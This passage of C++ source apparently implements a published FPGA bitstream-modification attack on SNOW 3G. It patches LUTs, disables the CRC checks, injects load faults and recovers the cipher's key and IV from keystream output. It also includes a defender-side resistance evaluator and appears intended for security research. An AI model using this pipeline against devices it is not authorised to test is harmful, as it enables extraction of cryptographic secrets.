  return find_lut_half(bitstream, kXorA1A2, options, begin, end);
}

std::vector<HalfMatch> unique_xor2_half_sites(std::span<const u8> bitstream,
                                              const FindLutOptions& options, bool fold_vacuous) {
  const bitstream::ParseResult parsed =
      bitstream::parse_bitstream({bitstream.data(), bitstream.size()});
  const auto aligned = [&](size_t l) {
    if (!parsed.ok || parsed.fdri_byte_offset == 0) return true;
    if (l < parsed.fdri_byte_offset) return false;
    const size_t rel = l - parsed.fdri_byte_offset;
    return rel % 2 == 0 && (rel / bitstream::kFrameBytes) % 4 == 0;
  };
  std::map<std::pair<size_t, bool>, HalfMatch> unique;
  for (const HalfMatch& h : find_xor2_halves(bitstream, options)) {
    if (!aligned(h.byte_index)) continue;
    const u64 stored =
        bitstream::read_lut_init(bitstream, h.byte_index, options.offset_d, h.order);
    // A vacuous table (both halves identical) is a single-output LUT the
    // half scan reports twice; fold it to one canonical entry.
    const bool vacuous =
        fold_vacuous && static_cast<u32>(stored) == static_cast<u32>(stored >> 32);
    unique.emplace(std::make_pair(h.byte_index, vacuous ? true : h.o5_half), h);
  }
  std::vector<HalfMatch> sites;
  sites.reserve(unique.size());
  for (const auto& [key, h] : unique) sites.push_back(h);
  return sites;
}

u32 permute_half5(u32 half, const InputPermutation& perm) {
  u32 out = 0;
  for (unsigned i = 0; i < 32; ++i) {
    unsigned j = 0;
    for (unsigned k = 0; k < 5; ++k) j |= bit_of(i, perm[k]) << k;
    out |= bit_of(half, j) << i;
  }
  return out;
}

double log2_binomial(unsigned n, unsigned k) {
  if (k > n) return -std::numeric_limits<double>::infinity();
  double sum = 0;
  for (unsigned i = 1; i <= k; ++i) {
    sum += std::log2(static_cast<double>(n - k + i)) - std::log2(static_cast<double>(i));
  }
  return sum;
}

double log2_lemma_bound(unsigned m, unsigned r) {
  const double e = std::exp(1.0);
  return m * std::log2(e * (m + r) / m);
}

double min_decoy_ratio(unsigned m, double bits) {
  // (e(1+x))^m >= 2^bits  <=>  x >= 2^(bits/m)/e - 1.
  const double e = std::exp(1.0);
  return std::pow(2.0, bits / m) / e - 1.0;
}

}  // namespace sbm::attack
