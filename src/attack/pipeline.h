// The full bitstream-modification attack of Section VI, end to end:
//
//   1. z_t path      — scan the candidate family, verify each hit by
//                      patching it to constant 0 and checking that exactly
//                      one keystream bit goes dead (Section VI-C.1).
//   2. beta fault    — locate the LFSR-load MUX LUTs (full-table and
//                      half-table matching), zero their gamma branches and
//                      verify against the software model's key-independent
//                      zero-load reference (Section VI-D.2).
//   3. feedback path — with beta in place, classify every feedback-family
//                      hit by its key-independent signature: patching the
//                      LUT that carries v[i] makes the device reproduce the
//                      reference keystream with W bit i cut (Section VI-C.2,
//                      generalized per-bit).
//   4. alpha2        — two keystream computations resolve which pair of
//                      each LUT1's XOR trio is the FSM word, instead of
//                      3^32 exhaustive trials (Section VI-D.1).
//   5. extraction    — apply all faults to a pristine bitstream, read 16
//                      words (= S^33), reverse the LFSR 33 steps, recover
//                      K and IV, and confirm them against the unfaulted
//                      device (Section VI-D.3, Tables IV/V).
//
// The attacker's interface is strictly: bytes of the bitstream, plus the
// keystream oracle.  No netlist, placement or design knowledge is used.
//
// Fault tolerance (DESIGN.md §4f): every logical probe goes through the
// PipelineConfig::retry policy — transient oracle errors are absorbed by
// bounded retry, noisy reads are confirmed by r-repetition agreement voting,
// and an irrecoverable fault (device death, unconfirmable reads) makes the
// current phase return a *partial* AttackResult that carries the verified
// artifacts so far plus a serializable AttackCheckpoint, instead of crashing
// or acting on a corrupt read.  The paper's oracle_runs metric counts
// logical probes only; retry/vote overhead is accounted separately.
#pragma once

#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "attack/findlut.h"
#include "attack/oracle.h"
#include "attack/probe_session.h"
#include "runtime/probe_controller.h"
#include "runtime/retry.h"
#include "snow3g/reverse.h"

namespace sbm::runtime {
class ProbeCache;
}

namespace sbm::attack {

struct AttackCheckpoint;

struct PipelineConfig {
  size_t words = 16;  // keystream words per probe (the paper's w)
  /// `find.pool` also shards every family scan of the pipeline; results are
  /// identical for any thread count (see src/runtime/parallel.h).
  FindLutOptions find;
  /// Attacker-known IV the host uses (public parameter); needed only for
  /// the final confirmation of the recovered key.
  snow3g::Iv iv{};
  CrcHandling crc = CrcHandling::kDisable;
  /// Optional probe cache: byte-identical patched bitstreams skip the
  /// simulated reconfiguration.  Hits are counted in AttackResult::cache_hits,
  /// never in oracle_runs — the paper's cost metric stays honest.  Only
  /// confirmed results (agreement-voted values, persistent rejections) are
  /// ever stored, so a corrupt first read cannot poison later hits.
  runtime::ProbeCache* cache = nullptr;
  /// Retry/vote budget per logical probe.  The default is single-shot (no
  /// overhead, byte-identical to the pre-fault-model pipeline); use
  /// runtime::RetryPolicy::voting() against flaky hardware.
  runtime::RetryPolicy retry;
  /// Confirmation controller (DESIGN.md §4j).  kStatic runs `retry` as the
  /// classic r-repetition vote; kAdaptive replaces it with the sequential
  /// test configured by `adaptive` (stops at 2 agreeing reads on a
  /// mildly-noisy board instead of always paying for `confirm`).
  runtime::ControllerKind controller = runtime::ControllerKind::kStatic;
  /// Tuning for the adaptive controller; ignored by kStatic.  Seed it from
  /// a known noise profile with faultsim::adaptive_config_for().
  runtime::AdaptiveConfig adaptive;
  /// Resume from a prior partial run: the checkpoint's salvaged probe
  /// outcomes (AttackCheckpoint::probes) are pre-seeded into `cache` before
  /// the first phase, so probes the dead board already answered are never
  /// re-paid physically.  Requires `cache`; ignored without one.  The
  /// checkpoint must outlive execute().
  const AttackCheckpoint* resume = nullptr;
  bool verbose = false;
};

struct ZPathLut {
  LutMatch match;
  unsigned bit = 0;           // keystream bit this LUT drives
  std::array<u8, 3> trio{};   // stored-table positions of the XOR trio
  int s0_var = -1;            // trio member carrying s0 (set by phase 4)
  bool operator==(const ZPathLut&) const = default;
};

/// A verified feedback-path rewrite.  The recipe is stored relative to the
/// site's current table so it can be replayed on any base bitstream (with
/// or without the beta patches): either the whole (half-)table is zeroed
/// (the LUT *is* v, possibly merged with the adder sum), or the variables
/// carrying the hypothesized XOR group are cofactored to 0 (Eq. (1)
/// generalized).
struct FeedbackLut {
  size_t byte_index = 0;
  std::array<u8, 4> order{};
  int half = -1;                // -1 = whole table, 0 = O5 half, 1 = O6 half
  bool zero_all = false;        // zero the selected (half-)table
  std::vector<u8> zero_vars;    // else cofactor these positions to 0
  unsigned bit = 0;             // W bit this rewrite cuts
  bool operator==(const FeedbackLut&) const = default;
};

/// Serializable record of everything the attack has verified so far: the
/// artifact a dead board leaves behind.  Produced on every run (complete or
/// partial) and round-trips through JSON, so a campaign can persist it and
/// a later session can resume the analysis without re-spending the probes.
struct AttackCheckpoint {
  std::string phase;                   // last phase entered
  std::vector<std::string> completed;  // phases completed, pipeline order
  std::vector<ZPathLut> lut1;
  std::vector<FeedbackLut> feedback;
  struct BetaPatch {
    size_t byte_index = 0;
    std::array<u8, 4> order{};
    u64 init = 0;
    bool operator==(const BetaPatch&) const = default;
  };
  std::vector<BetaPatch> beta;
  bool load_active_high = true;

  /// Probe outcomes that settled (confirmed value or persistent rejection)
  /// during the run — the checkpoint-side mirror of the probe cache.
  /// Persisting these means a resume — or a fleet migration that replays a
  /// batch — never re-pays physical runs the dead board already completed:
  /// the resumed attack pre-seeds its cache from them and re-probes only
  /// what never settled.
  using SavedProbe = sbm::attack::SavedProbe;
  std::vector<SavedProbe> probes;

  bool operator==(const AttackCheckpoint&) const = default;

  std::string to_json() const;
  static std::optional<AttackCheckpoint> from_json(std::string_view json);
};

struct AttackResult {
  bool success = false;
  /// An irrecoverable hardware fault (runtime::ProbeError::kDead or an
  /// unconfirmable oracle) stopped the pipeline early: `failure` names the
  /// phase, `abort_error` the underlying fault kind, and everything verified
  /// before the fault is retained here and in `checkpoint`.
  bool partial = false;
  runtime::ProbeError abort_error = runtime::ProbeError::kNone;
  std::string failure;
  std::vector<std::string> log;

  std::vector<ZPathLut> lut1;         // 32 verified z-path LUTs
  std::vector<FeedbackLut> feedback;  // feedback covers of all 32 bits
  size_t mux_patches = 0;             // beta-fault LUT rewrites
  bool load_active_high = true;       // resolved polarity hypothesis

  std::vector<u32> faulty_keystream;    // Table IV analog
  snow3g::LfsrState recovered_state{};  // Table V analog (S^0)
  snow3g::RecoveredSecrets secrets{};
  bool key_confirmed = false;  // software model reproduces the clean device

  /// The paper's cost metric: logical probes answered by the board (one per
  /// probe even when retries/votes re-ran it physically).  Unchanged by the
  /// retry policy and the noise level by construction.
  size_t oracle_runs = 0;
  /// Logical probes spent per phase (cost breakdown).
  std::vector<std::pair<std::string, size_t>> phase_runs;
  /// Probe requests answered by the cache (probe_calls = oracle_runs +
  /// cache_hits when a cache is configured and the oracle accepts every
  /// golden probe).
  size_t cache_hits = 0;
  size_t probe_calls = 0;

  /// Physical reconfigurations actually performed, including retry, vote
  /// and fleet-internal overhead:
  /// physical_runs = oracle_runs + retry_runs + vote_runs + migration_runs.
  size_t physical_runs = 0;
  size_t retry_runs = 0;  // re-issues after transient errors
  size_t vote_runs = 0;   // confirmation reads beyond the first
  /// Runs the oracle spent on its own initiative (fleet migration replays
  /// and hedge duplicates; see Oracle::internal_runs).  0 for single-board
  /// oracles.
  size_t migration_runs = 0;
  size_t corruption_detections = 0;  // truncated or disagreeing reads seen
  size_t transient_rejections = 0;   // rejections that vanished on retry

  /// Verified-artifact snapshot (always filled; see AttackCheckpoint).
  AttackCheckpoint checkpoint;
};

class Attack {
 public:
  Attack(Oracle& oracle, std::span<const u8> golden_bitstream, PipelineConfig config = {});

  AttackResult execute();

 private:
  /// Probing, caching, confirmation and salvage all live in the shared
  /// ProbeSession (attack/probe_session.h); the pipeline only adds the
  /// partial-result bookkeeping on top.
  runtime::ProbeOutcome probe(const std::vector<u8>& bytes) { return session_.probe(bytes); }
  std::vector<runtime::ProbeOutcome> probe_batch(std::span<const std::vector<u8>> batch) {
    return session_.probe_batch(batch);
  }
  bool device_lost() const { return session_.device_lost(); }
  /// When an irrecoverable fault is latched: marks `result` partial, names
  /// the phase in `failure`, and returns true (the phase must stop).
  bool lost(AttackResult& result);

  std::vector<u8> with_patches(const std::vector<u8>& base,
                               const std::vector<Patch>& patches) const {
    return session_.with_patches(base, patches);
  }
  /// Replays a verified feedback rewrite for application on `base`.  The
  /// rewrite recipe was verified on the beta-patched table, so it is applied
  /// in that context and the minterms the beta fault had zeroed (the gamma
  /// load branch of a folded s15 MUX) are restored from `base` afterwards —
  /// otherwise the final extraction bitstream would load a corrupted
  /// gamma(K, IV).
  Patch feedback_patch(const std::vector<u8>& base, const std::vector<u8>& base_beta,
                       const FeedbackLut& lut) const;
  void note(std::string message);
  AttackCheckpoint make_checkpoint(const AttackResult& result) const;

  bool phase_zpath(AttackResult& result);
  bool phase_beta(AttackResult& result);
  bool phase_feedback(AttackResult& result);
  bool phase_alpha2(AttackResult& result);
  bool phase_extract(AttackResult& result);

  Oracle& oracle_;
  PipelineConfig config_;
  /// The shared probe engine: one logical-probe contract (cache, confirmed
  /// reads, accounting, salvage) for this run.
  ProbeSession session_;
  size_t initial_oracle_runs_ = 0;
  size_t initial_internal_runs_ = 0;
  const char* phase_ = "setup";
  std::vector<std::string> completed_phases_;
  std::vector<u8> golden_;     // pristine bitstream
  std::vector<u8> base_;       // golden with the CRC check disabled
  std::vector<u32> z_golden_;  // keystream of the unmodified device
  std::vector<Patch> beta_patches_;
  /// Sites whose beta match came from a MUX-with-feedback-fold shape: the
  /// s15 load MUXes that absorbed the top of the feedback tree, prime
  /// suspects for carrying the target XOR (probed first in phase 3).
  std::vector<size_t> fold_sites_;
  AttackResult* active_ = nullptr;
};

}  // namespace sbm::attack
