// Defender-side resistance evaluation — the stated purpose of the paper's
// tool: "to assist in evaluating resistance of FPGAs to reverse engineering
// and bitstream modification".
//
// Given only bitstream bytes (the attacker's view), the evaluator measures
// how much structure a reverse engineer can extract:
//   * the LUT-function histogram up to P equivalence ("LUTs covering a
//     large number of nodes have a distinct structure and may be an easier
//     target", Section VII-A),
//   * candidate counts for the Table II attack families,
//   * the XOR2-half population and the implied exhaustive-search complexity
//     for a 32-bit target hidden among them.
#pragma once

#include <cstdint>
#include <map>
#include <span>
#include <string>
#include <vector>

#include "attack/findlut.h"

namespace sbm::attack {

struct ResistanceReport {
  size_t occupied_luts = 0;
  size_t empty_slots = 0;
  /// Canonical P-class representative -> occurrence count, sorted by count
  /// in `top_classes`.
  std::map<u64, size_t> p_class_histogram;
  std::vector<std::pair<size_t, u64>> top_classes;  // (count, canonical table)

  /// Candidate counts per Table II function (name -> n).
  std::map<std::string, size_t> table2_counts;
  size_t keystream_family_max = 0;  // largest z-path candidate population
  size_t feedback_family_total = 0;

  /// XOR2-in-one-half candidates and the implied search cost of isolating a
  /// 32-LUT target among them (log2 of C(n-32, 32); < 0 if n < 64).
  size_t xor2_half_candidates = 0;
  double log2_exhaustive_search = 0;

  /// Overall verdict: true if whole-table family scans expose a >= 32
  /// z-path population (the precondition of the Section VI attack).
  bool attackable = false;

  std::string summary() const;
};

/// Evaluates a bitstream.  `fdri_hint` optionally overrides the FDRI offset
/// if the packet stream cannot be parsed.
ResistanceReport evaluate_resistance(std::span<const u8> bitstream,
                                     const FindLutOptions& options = {});

}  // namespace sbm::attack
