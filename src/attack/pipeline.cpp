#include "attack/pipeline.h"

#include <algorithm>
#include <bit>
#include <cstdio>
#include <map>
#include <set>

#include "attack/countermeasure.h"
#include "attack/scan.h"
#include "bitstream/parser.h"
#include "bitstream/patcher.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "runtime/probe_cache.h"
#include "snow3g/snow3g.h"

namespace sbm::attack {

using logic::Candidate;
using logic::TruthTable6;
using runtime::ProbeError;
using runtime::ProbeOutcome;

namespace {

/// Key-independent reference keystreams simulated with the attacker's own
/// software model of SNOW 3G.  Key/IV values are irrelevant: the zero-load
/// fault makes every one of these sequences constant.
std::vector<u32> reference(snow3g::FaultConfig faults, size_t words) {
  return model_reference(faults, words);
}

ProbeSessionConfig session_config(const PipelineConfig& config) {
  ProbeSessionConfig sc;
  sc.words = config.words;
  sc.crc = config.crc;
  sc.offset_d = config.find.offset_d;
  sc.cache = config.cache;
  sc.retry = config.retry;
  sc.controller = config.controller;
  sc.adaptive = config.adaptive;
  return sc;
}

}  // namespace

Attack::Attack(Oracle& oracle, std::span<const u8> golden_bitstream, PipelineConfig config)
    : oracle_(oracle),
      config_(config),
      session_(oracle, session_config(config)),
      golden_(golden_bitstream.begin(), golden_bitstream.end()) {}

void Attack::note(std::string message) {
  if (config_.verbose) std::printf("[attack] %s\n", message.c_str());
  if (active_ != nullptr) active_->log.push_back(std::move(message));
}

bool Attack::lost(AttackResult& result) {
  const ProbeError fatal = session_.fatal();
  if (fatal == ProbeError::kNone) return false;
  if (!result.partial) {
    result.partial = true;
    result.abort_error = fatal;
    result.failure = std::string(phase_) + ": device lost (" +
                     runtime::probe_error_name(fatal) + ")";
    note("irrecoverable fault during " + std::string(phase_) + " (" +
         runtime::probe_error_name(fatal) + "); stopping with a checkpoint");
  }
  return true;
}

AttackCheckpoint Attack::make_checkpoint(const AttackResult& result) const {
  AttackCheckpoint cp;
  cp.phase = phase_;
  cp.completed = completed_phases_;
  cp.lut1 = result.lut1;
  cp.feedback = result.feedback;
  for (const Patch& p : beta_patches_) cp.beta.push_back({p.byte_index, p.order, p.init});
  cp.load_active_high = result.load_active_high;
  cp.probes = session_.salvaged();
  return cp;
}

AttackResult Attack::execute() {
  AttackResult result;
  active_ = &result;
  initial_oracle_runs_ = oracle_.runs();
  initial_internal_runs_ = oracle_.internal_runs();
  phase_ = "setup";
  obs::Span exec_span("attack", "execute");

  // Resume support: pre-seed the cache with the settled probe outcomes a
  // prior partial run salvaged into its checkpoint, so they answer as cache
  // hits here instead of re-running physically.
  if (config_.resume != nullptr && config_.cache != nullptr &&
      !config_.resume->probes.empty()) {
    const size_t seeded = session_.seed_resume(config_.resume->probes);
    note("resume: pre-seeded " + std::to_string(seeded) +
         " salvaged probe outcome(s) from checkpoint");
  }

  // Step 0: baseline keystream and CRC neutralization.
  bool ok = true;
  {
    obs::Span span("attack", "setup");
    const auto z0 = probe(golden_);
    if (lost(result)) {
      ok = false;
    } else if (!z0) {
      result.failure = "golden bitstream rejected by device";
      ok = false;
    } else {
      z_golden_ = *z0;
      base_ = golden_;
      if (config_.crc == CrcHandling::kDisable) {
        const size_t disabled = bitstream::disable_crc(base_);
        note("disabled " + std::to_string(disabled) + " CRC check(s)");
        const auto z1 = probe(base_);
        if (lost(result)) {
          ok = false;
        } else if (!z1 || *z1 != z_golden_) {
          result.failure = "CRC-disabled bitstream does not behave like the original";
          ok = false;
        }
      } else {
        note("CRC handling: recompute-and-replace on every probe");
      }
    }
  }

  size_t mark = session_.oracle_runs();
  result.phase_runs.emplace_back("setup", mark);
  if (ok) {
    struct PhaseFn {
      const char* name;
      bool (Attack::*fn)(AttackResult&);
    };
    static constexpr PhaseFn kPhases[] = {{"z-path", &Attack::phase_zpath},
                                          {"beta", &Attack::phase_beta},
                                          {"feedback", &Attack::phase_feedback},
                                          {"alpha2", &Attack::phase_alpha2},
                                          {"extract", &Attack::phase_extract}};
    for (const PhaseFn& ph : kPhases) {
      phase_ = ph.name;
      {
        obs::Span span("attack", ph.name);
        ok = (this->*ph.fn)(result);
        span.arg("oracle_runs", session_.oracle_runs() - mark);
      }
      result.phase_runs.emplace_back(ph.name, session_.oracle_runs() - mark);
      mark = session_.oracle_runs();
      if (!ok) break;
      completed_phases_.push_back(ph.name);
    }
  }
  result.success = ok;
  result.oracle_runs = session_.oracle_runs();
  result.cache_hits = session_.cache_hits();
  result.probe_calls = session_.probe_calls();
  result.physical_runs = oracle_.runs() - initial_oracle_runs_;
  result.retry_runs = session_.stats().retry_runs;
  result.vote_runs = session_.stats().vote_runs;
  result.migration_runs = oracle_.internal_runs() - initial_internal_runs_;
  result.corruption_detections = session_.stats().corruptions;
  result.transient_rejections = session_.stats().transient_rejections;
  result.checkpoint = make_checkpoint(result);
  active_ = nullptr;

  // Mirror the per-run record into the process-wide registry (DESIGN.md
  // §4g).  One bulk add per metric at the end of the run: the registry is
  // the cross-cutting view, AttackResult stays the deterministic record.
  auto& registry = obs::MetricsRegistry::global();
  static obs::Counter& c_executions = registry.counter("attack.executions");
  static obs::Counter& c_successes = registry.counter("attack.successes");
  static obs::Counter& c_partials = registry.counter("attack.partial_results");
  static obs::Counter& c_oracle = registry.counter("attack.oracle_runs");
  static obs::Counter& c_hits = registry.counter("attack.cache_hits");
  static obs::Counter& c_calls = registry.counter("attack.probe_calls");
  static obs::Counter& c_retries = registry.counter("attack.retry_runs");
  static obs::Counter& c_votes = registry.counter("attack.vote_runs");
  static obs::Counter& c_migration = registry.counter("attack.migration_runs");
  static obs::Counter& c_corrupt = registry.counter("attack.corruption_detections");
  static obs::Counter& c_transient = registry.counter("attack.transient_rejections");
  c_executions.add();
  if (result.success) c_successes.add();
  if (result.partial) c_partials.add();
  c_oracle.add(result.oracle_runs);
  c_hits.add(result.cache_hits);
  c_calls.add(result.probe_calls);
  c_retries.add(result.retry_runs);
  c_votes.add(result.vote_runs);
  c_migration.add(result.migration_runs);
  c_corrupt.add(result.corruption_detections);
  c_transient.add(result.transient_rejections);
  exec_span.arg("oracle_runs", result.oracle_runs);
  return result;
}

bool Attack::phase_zpath(AttackResult& result) {
  // Scan the keystream-path family (one compiled pattern index, byte ranges
  // sharded across the pool when one is configured) and sort candidates by
  // match count, largest first (Section VI-C: "starting from the ones with
  // the largest number of matches n").
  std::vector<FamilyCount> counts = scan_family(base_, keystream_family(), config_.find);
  std::sort(counts.begin(), counts.end(),
            [](const FamilyCount& a, const FamilyCount& b) { return a.count() > b.count(); });

  std::set<size_t> probed;
  std::set<unsigned> covered;
  for (const FamilyCount& fc : counts) {
    if (covered.size() == 32) break;
    for (const LutMatch& m : fc.matches) {
      if (covered.size() == 32) break;
      if (!probed.insert(m.byte_index).second) continue;
      // alpha: f = 0 — stuck the whole LUT at 0 and watch which bit dies.
      const auto z = probe(with_patches(base_, {{m.byte_index, m.order, 0}}));
      if (lost(result)) return false;
      if (!z) continue;
      int dead_bit = -1;
      bool clean = true;
      u32 diff_mask = 0;
      for (size_t t = 0; t < z->size() && clean; ++t) diff_mask |= (*z)[t] ^ z_golden_[t];
      if (std::popcount(diff_mask) == 1) {
        const unsigned bit = static_cast<unsigned>(std::countr_zero(diff_mask));
        bool stuck0 = true;
        for (const u32 w : *z) stuck0 = stuck0 && bit_of(w, bit) == 0;
        if (stuck0) dead_bit = static_cast<int>(bit);
      }
      if (dead_bit < 0 || !clean) continue;
      if (covered.count(static_cast<unsigned>(dead_bit))) continue;  // overlap pruning
      covered.insert(static_cast<unsigned>(dead_bit));
      ZPathLut lut;
      lut.match = m;
      lut.bit = static_cast<unsigned>(dead_bit);
      for (size_t k = 0; k < 3 && k < fc.candidate.xor_vars.size(); ++k) {
        lut.trio[k] = m.perm[fc.candidate.xor_vars[k]];
      }
      result.lut1.push_back(lut);
    }
  }
  note("z-path: verified " + std::to_string(result.lut1.size()) + "/32 LUT1 positions");
  if (result.lut1.size() != 32) {
    result.failure = "could not identify all 32 z-path LUTs";
    return false;
  }
  return true;
}

bool Attack::phase_beta(AttackResult& result) {
  // The MUX search, zero-load rewrites and polarity refinement are shared
  // with the countermeasure cracker (attack/probe_session.h).
  auto stage = establish_beta(session_, base_, config_.find);
  if (lost(result)) return false;
  if (!stage) {
    result.failure = "beta fault (all-zero LFSR load) could not be established";
    return false;
  }
  note("beta: " + std::to_string(stage->candidates) + " load-MUX candidates");
  beta_patches_ = std::move(stage->patches);
  fold_sites_ = std::move(stage->fold_sites);
  result.load_active_high = stage->load_active_high;
  result.mux_patches = beta_patches_.size();
  note(std::string("beta established with ") + std::to_string(beta_patches_.size()) +
       " MUX rewrites, load active-" + (stage->load_active_high ? "high" : "low"));
  return true;
}

namespace {

/// Applies a feedback rewrite recipe to a stored 64-bit table.
u64 apply_feedback_rewrite(u64 stored, const FeedbackLut& lut) {
  if (lut.half < 0) {
    if (lut.zero_all) return 0;
    TruthTable6 t(stored);
    for (const u8 v : lut.zero_vars) t = t.cofactor(v, 0);
    return t.bits();
  }
  const u32 keep = lut.half == 0 ? static_cast<u32>(stored >> 32) : static_cast<u32>(stored);
  u32 h = lut.half == 0 ? static_cast<u32>(stored) : static_cast<u32>(stored >> 32);
  if (lut.zero_all) {
    h = 0;
  } else {
    TruthTable6 t(u64{h} | (u64{h} << 32));
    for (const u8 v : lut.zero_vars) t = t.cofactor(v, 0);
    h = t.half(0);
  }
  return lut.half == 0 ? (u64{h} | (u64{keep} << 32)) : (u64{keep} | (u64{h} << 32));
}

}  // namespace

Patch Attack::feedback_patch(const std::vector<u8>& base,
                             const std::vector<u8>& base_beta,
                             const FeedbackLut& lut) const {
  const u64 original =
      bitstream::read_lut_init(base, lut.byte_index, config_.find.offset_d, lut.order);
  const u64 beta =
      bitstream::read_lut_init(base_beta, lut.byte_index, config_.find.offset_d, lut.order);
  const u64 rewritten = apply_feedback_rewrite(beta, lut);
  // Minterms the beta fault zeroed (the load branch) come back from the
  // original; everywhere else the verified rewrite governs.
  const u64 branch = original ^ beta;
  return {lut.byte_index, lut.order, (rewritten & ~branch) | (original & branch)};
}

bool Attack::phase_feedback(AttackResult& result) {
  // Per-bit key-independent signatures: the reference keystream with the W
  // injection cut on exactly one bit, simulated with the attacker's model.
  std::map<std::vector<u32>, unsigned> signature_to_bit;
  for (unsigned i = 0; i < 32; ++i) {
    signature_to_bit.emplace(reference({u32{1} << i, false, true}, config_.words), i);
  }
  const std::vector<u32> no_effect = reference({0, false, true}, config_.words);
  const std::vector<u8> base_beta = with_patches(base_, beta_patches_);

  std::set<unsigned> covered;
  std::set<size_t> z_claimed;
  for (const ZPathLut& z : result.lut1) z_claimed.insert(z.match.byte_index);
  // Classification of one probe result; the probes themselves run in
  // batched rounds (probe_batch) because no rewrite's outcome influences
  // which other rewrites of the same round are probed.
  auto classify = [&](FeedbackLut lut, const ProbeOutcome& z) {
    if (!z || *z == no_effect) return false;
    const auto it = signature_to_bit.find(*z);
    if (it == signature_to_bit.end()) return false;
    lut.bit = it->second;
    covered.insert(it->second);
    result.feedback.push_back(std::move(lut));
    return true;
  };

  // Stage 1 — precise probes on family matches: the candidate says exactly
  // which stored variables form the hypothesized XOR group; cofactor them
  // all to 0 (the generalization of the paper's Eq. (1)).  The family scan
  // fans out across the pool; the probes batch per candidate — each match
  // list is planned up front, probed in 64-lane batches, and classified in
  // match order, so the outcome is independent of batch width and threads.
  const std::vector<Candidate>& fb_family = feedback_family();
  const std::vector<FamilyCount> fb_counts = scan_family(base_beta, fb_family, config_.find);
  for (size_t ci = 0; ci < fb_counts.size(); ++ci) {
    const Candidate& c = fb_family[ci];
    if (covered.size() == 32) break;
    std::vector<FeedbackLut> round;
    std::vector<std::vector<u8>> probes;
    auto plan = [&](FeedbackLut lut) {
      const u64 stored =
          bitstream::read_lut_init(base_beta, lut.byte_index, config_.find.offset_d, lut.order);
      if (apply_feedback_rewrite(stored, lut) == stored) return;  // no-op: probe-free
      probes.push_back(with_patches(base_beta, {feedback_patch(base_beta, base_beta, lut)}));
      round.push_back(std::move(lut));
    };
    for (const LutMatch& m : fb_counts[ci].matches) {
      if (z_claimed.count(m.byte_index)) continue;
      FeedbackLut lut{m.byte_index, m.order, -1, false, {}, 0};
      for (const u8 xv : c.xor_vars) lut.zero_vars.push_back(m.perm[xv]);
      plan(std::move(lut));
    }
    if (c.function.support_size() <= 5 && !c.function.depends_on(5)) {
      for (const HalfMatch& h : find_lut_half(base_beta, c.function.half(0), config_.find)) {
        if (z_claimed.count(h.byte_index)) continue;
        FeedbackLut lut{h.byte_index, h.order, h.o5_half ? 0 : 1, false, {}, 0};
        for (const u8 xv : c.xor_vars) lut.zero_vars.push_back(h.perm[xv]);
        plan(std::move(lut));
      }
    }
    const auto zs = probe_batch(probes);
    for (size_t i = 0; i < round.size(); ++i) classify(std::move(round[i]), zs[i]);
    if (lost(result)) return false;
  }

  // Stage 2 — generic sweep over every occupied, frame-aligned site, trying
  // the v = 0 rewrites from cheapest to deepest: the LUT *is* v (zero it),
  // v is a leaf (single cofactor), or v is an absorbed XOR group of 2..4
  // variables.  Run only while W bits remain unaccounted for.
  const bitstream::ParseResult parsed = bitstream::parse_bitstream(base_);
  std::vector<size_t> sites;
  std::set<size_t> queued;
  auto enqueue = [&](size_t l) {
    if (!z_claimed.count(l) && queued.insert(l).second) sites.push_back(l);
  };
  for (const Patch& p : beta_patches_) enqueue(p.byte_index);
  if (parsed.ok) {
    const size_t frames = parsed.frame_data.size() / bitstream::kFrameBytes;
    for (size_t frame = 0; frame + 3 < frames; frame += 4) {
      for (size_t off = 0; off + 1 < bitstream::kFrameBytes; off += 2) {
        const size_t l = parsed.fdri_byte_offset + frame * bitstream::kFrameBytes + off;
        bool empty = true;
        for (unsigned c = 0; c < 4 && empty; ++c) {
          empty = base_[l + c * config_.find.offset_d] == 0 &&
                  base_[l + c * config_.find.offset_d + 1] == 0;
        }
        if (!empty) enqueue(l);
      }
    }
  }

  auto groups_of = [](const TruthTable6& t, unsigned vars, unsigned size) {
    std::vector<u8> support;
    for (u8 x = 0; x < vars; ++x) {
      if (t.depends_on(x)) support.push_back(x);
    }
    std::vector<std::vector<u8>> groups;
    const size_t n = support.size();
    if (size > n) return groups;
    std::vector<u8> idx(size);
    for (u8 i = 0; i < size; ++i) idx[i] = i;
    while (true) {
      std::vector<u8> g;
      for (const u8 i : idx) g.push_back(support[i]);
      groups.push_back(std::move(g));
      int k = static_cast<int>(size) - 1;
      while (k >= 0 && idx[static_cast<size_t>(k)] == n - size + static_cast<size_t>(k)) --k;
      if (k < 0) break;
      ++idx[static_cast<size_t>(k)];
      for (size_t j = static_cast<size_t>(k) + 1; j < size; ++j) idx[j] = idx[j - 1] + 1;
    }
    return groups;
  };
  // Depth-major sweep: cheap rewrites first (the LUT is v, or v is a leaf),
  // deeper XOR groups only while W bits remain unaccounted for.  The probes
  // run in fixed windows of kWindowSites sites: every window's probe plan is
  // a pure function of the state at window start (covered/classified sets,
  // the immutable base_beta tables), so the same rewrites run — and the same
  // hits are recorded, in the same site/segment/group order — regardless of
  // batch width or thread count.  Within a window, the first recorded hit
  // per (site, segment) wins and a hit at chunk order p exempts the site
  // from order pass p+1, mirroring the serial sweep's settle-and-break.
  std::set<size_t> classified_sites;
  // Stage 1.5 — the s15 load MUXes that folded with the feedback tree (their
  // beta match used a mux_fold shape) are the prime suspects; sweep them to
  // full depth first so the broad fabric scan is usually never needed.
  std::vector<size_t> priority = fold_sites_;
  std::vector<size_t> broad = sites;
  constexpr size_t kWindowSites = 16;
  const auto orders = bitstream::device_chunk_orders();
  for (const bool widened : {false, true}) {
    if (covered.size() == 32) break;
    for (unsigned group_size = 0; group_size <= 4 && covered.size() != 32; ++group_size) {
      const std::vector<size_t>& pool_sites = widened ? broad : priority;
      size_t cursor = 0;
      while (covered.size() != 32) {
        std::vector<size_t> window;
        while (cursor < pool_sites.size() && window.size() < kWindowSites) {
          const size_t l = pool_sites[cursor++];
          if (!classified_sites.count(l)) window.push_back(l);
        }
        if (window.empty()) break;
        std::vector<char> site_hit(window.size(), 0);
        for (size_t pass = 0; pass < orders.size() && covered.size() != 32; ++pass) {
          const auto& order = orders[pass];
          struct Gate {
            size_t slot;  // index into window
            int segment;  // 0 = whole table, 1 = O5 half, 2 = O6 half
          };
          std::vector<FeedbackLut> round;
          std::vector<Gate> gates;
          std::vector<std::vector<u8>> probes;
          auto plan = [&](size_t slot, int segment, FeedbackLut lut, u64 stored) {
            if (apply_feedback_rewrite(stored, lut) == stored) return;  // no-op: probe-free
